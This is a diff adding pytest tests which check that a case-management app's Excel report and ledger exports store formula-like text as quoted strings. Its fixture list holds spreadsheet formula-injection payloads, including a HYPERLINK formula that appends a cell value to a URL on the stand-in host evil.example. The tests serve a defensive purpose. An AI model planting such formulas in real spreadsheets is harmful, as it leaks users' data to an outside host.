@@ -57,3 +57,46 @@ def test_every_card_pdf_prints_markup_literally(hostile, app, tmp_path, layout):
     text = pdf_text(render_cards_pdf(cards, layout), tmp_path)
     for literal in (MARKUP, ANGLES, AMPERSAND):
         assert shown(literal) in text, literal
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1+1+1", "-2+3-4+5", "@SUM(A1:A9)",
+            "＝1+1+1+1"]
+
+
+def workbook_cells(data: bytes):
+    from io import BytesIO
+    from openpyxl import load_workbook
+    wb = load_workbook(BytesIO(data))
+    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+@pytest.fixture
+def formulas(app, world, make_case, fixed_clock):
+    """Overdue cases and a department whose text looks like formulas."""
+    fixed_clock.set(T0 + timedelta(days=10))
+    world.dept.name = "=1+2"
+    for text in FORMULAS:
+        make_case(CaseState.dispatched, now=T0, content=text)
+    db.session.commit()
+
+
+def assert_all_text(cells, expected):
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value: c for c in cells}
+    for text in expected:
+        assert text in values, text
+        assert values[text].data_type == "s" and values[text].quotePrefix, text
+
+
+def test_the_monthly_report_workbook_stores_formulas_as_text(formulas):
+    from app.figures.report import report_xlsx
+    cells = workbook_cells(report_xlsx("2026-11", county="="))
+    assert_all_text(cells, [text[:40] for text in FORMULAS] + ["=1+2"])
+
+
+def test_the_ledger_stores_formulas_as_text_on_every_sheet(formulas, world):
+    from io import BytesIO
+    from app.figures.ledger import export_ledger
+    buffer = BytesIO()
+    export_ledger(buffer, county="=")
+    assert_all_text(workbook_cells(buffer.getvalue()), FORMULAS + ["=1+2"])
